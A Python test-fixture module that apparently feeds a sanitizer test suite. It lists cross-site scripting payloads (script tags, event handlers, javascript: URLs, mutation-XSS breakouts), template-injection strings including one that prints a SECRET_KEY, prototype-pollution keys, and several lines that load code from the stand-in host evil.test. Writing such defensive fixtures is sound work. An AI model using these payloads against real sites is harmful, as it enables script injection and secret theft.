"""Texts with scripts that an attacker could log.

Each tries to set window.hacked, open a dialog, navigate to another host or change a
shared prototype.
"""

from __future__ import annotations

DONE = "window.hacked=1"
AWAY = "https://evil.test"

ELEMENTS = [
    f"<script>{DONE}</script>",
    f"<ScRiPt>{DONE}</sCrIpT>",
    f"<script src={AWAY}/x.js></script>",
    f"</script><script>{DONE}</script>",
    f"<img src=x onerror={DONE}>",
    f"<img src={AWAY}/x.png>",
    f"<svg onload={DONE}>",
    f"<svg><script>{DONE}</script></svg>",
    f"<svg><animate onbegin={DONE} attributeName=x>",
    f"<svg><a xlink:href='javascript:{DONE}'><text y=20>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={DONE} src>'>",
    f"<iframe src=javascript:{DONE}>",
    f"<iframe srcdoc='<script>parent.{DONE}</script>'>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data=javascript:{DONE}>",
    f"<embed src={AWAY}>",
    f"<video><source onerror={DONE}>",
    f"<audio src=x onerror={DONE}>",
    f"<details open ontoggle={DONE}>",
    f"<body onload={DONE}>",
    f"<input autofocus onfocus={DONE}>",
    f"<select autofocus onfocus={DONE}>",
    f"<textarea autofocus onfocus={DONE}>",
    f"<marquee onstart={DONE}>",
    f"<a href=javascript:{DONE}>x</a>",
    f"<a href={AWAY}>loss</a>",
    f"<form action={AWAY}><button>x",
    f"<base href={AWAY}/>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<style>@import '{AWAY}/x.css'</style>",
    f"<style>*{{background:url({AWAY}/x)}}</style>",
    f"<div style=background:url({AWAY}/x)>",
    f"<noscript><p title='</noscript><img src=x onerror={DONE}>'>",
    f"<template><script>{DONE}</script></template>",
    f"<textarea></textarea><script>{DONE}</script>",
    f"<title></title><script>{DONE}</script>",
    f"<!--><script>{DONE}</script>-->",
    f"<![CDATA[><script>{DONE}</script>]]>",
    f"<div hx-get={AWAY} hx-trigger=load>",
    f"<div hx-on:load={DONE}>",
    f"<div data-behaviour=chart data-figure-url={AWAY}>",
]
ENDINGS = [
    f"'><script>{DONE}</script>",
    f'"><script>{DONE}</script>',
    f'" onmouseover={DONE} x="',
    f'" autofocus onfocus={DONE} x="',
    f"' onclick='{DONE}",
    f"';{DONE};//",
    f'";{DONE};//',
    f"`;{DONE};//",
    f"${{{DONE}}}",
    f"{{{{constructor.constructor('{DONE}')()}}}}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    f"javascript:{DONE}",
    f"data:text/html,<script>{DONE}</script>",
    f"%{{customdata}}<b>x</b><a href='{AWAY}'>x</a>",
    f"&lt;script&gt;{DONE}&lt;/script&gt;",
    f"&#60;script&#62;{DONE}&#60;/script&#62;",
    f"\u202e<script>{DONE}</script>",
    f"\ufeff<script>{DONE}</script>",
]
PAYLOADS = [*ELEMENTS, *ENDINGS]
# Names that every object of JavaScript has already.
SHARED_KEYS = ["__proto__", "constructor", "toString", "prototype", "hasOwnProperty"]


def packed(texts: list[str], longest: int) -> list[str]:
    """Join texts into as few names of at most this length as hold all of them."""
    names: list[str] = []
    for text in texts:
        if names and len(names[-1]) + 1 + len(text) <= longest:
            names[-1] += f" {text}"
        else:
            names.append(text[:longest])
    return names
